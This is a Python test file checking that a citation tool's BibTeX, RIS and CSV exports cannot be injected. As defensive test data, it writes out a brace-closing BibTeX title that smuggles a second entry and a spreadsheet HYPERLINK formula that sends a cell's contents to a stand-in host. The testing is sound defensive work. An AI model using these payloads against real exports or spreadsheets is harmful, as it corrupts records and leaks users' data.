"""Exports are safe to open (issue 16, item 7): no CSV cell is a formula, no BibTeX value ends its entry
(checked by pybtex, a real BibTeX parser), and no RIS value starts a line."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st
from pybtex.database import parse_string
from typer.testing import CliRunner

from lucli.authoring.citations import Citation, bibtex_entry, ris_record
from lucli.cli import app
from lucli.records.model import Loc, Source

HOSTILE_TITLE = 'Real title}},\n  note = {planted}\n}\n\n@misc{planted-entry,\n  title = {Planted'
HOSTILE_AUTHOR = "Eve}} and {Mallory"


def _export(repo, fmt: str, *extra: str) -> str:
    result = CliRunner().invoke(app, ["export", "--format", fmt, "--root", str(repo), *extra])
    assert result.exit_code == 0, result.stderr
    return result.stdout


def _source(title: str = "A report", authors: tuple[str, ...] = ()) -> str:
    return (f"id: alpha-2022-report\ntitle: {json.dumps(title)}\npublishers: [alpha]\n"
            f"authors: {json.dumps(list(authors))}\npublished: 2022-03\nkind: report\nfindings: []\n")


def test_a_title_that_closes_its_braces_adds_no_entry(make_repo):
    repo = make_repo(sources={"alpha-2022-report": _source(HOSTILE_TITLE, (HOSTILE_AUTHOR,))})

    entries = parse_string(_export(repo, "bibtex"), "bibtex").entries

    assert list(entries) == ["alpha-2022-report"]
    assert set(entries["alpha-2022-report"].fields) == {"title", "institution", "year", "month", "date"}


@given(title=st.text(min_size=1, max_size=60).filter(lambda t: t.strip()),
       author=st.text(min_size=1, max_size=30).filter(lambda t: t.strip()))
def test_any_title_and_author_stay_inside_one_entry(title, author):
    source = Source(id="s", title=title, publishers=("o",), published="2022", kind="report", findings=(),
                    authors=(author,), loc=Loc("s.yaml", 1, 1))
    from lucli.analysis.people import person

    text = bibtex_entry(Citation(source, ("Org",), (person(author),), (), 0))

    entries = parse_string(text, "bibtex").entries
    assert list(entries) == ["s"]
    assert set(entries["s"].fields) == {"title", "institution", "year", "date"}
    lines = ris_record(Citation(source, ("Org",), (person(author),), (), 0)).splitlines()
    assert lines[-1] == "ER  - " and sum(line.startswith("ER  -") for line in lines) == 1
    assert all(line[2:6] == "  - " for line in lines)


def test_csv_cells_that_look_like_formulas_are_neutralised(make_repo):
    formula = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    repo = make_repo(sources={"alpha-2022-report": _source(formula, ("+44 20 7946 0000", "@cmd", "-2+3"))})

    (header, row) = list(csv.reader(io.StringIO(_export(repo, "csv"))))

    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'" + formula
    assert cells["authors"] == "'+44 20 7946 0000; @cmd; -2+3"
    listed = CliRunner().invoke(app, ["list", "sources", "--format", "csv", "--root", str(repo)])
    assert "'=HYPERLINK" in listed.stdout and '\n=HYPERLINK' not in listed.stdout
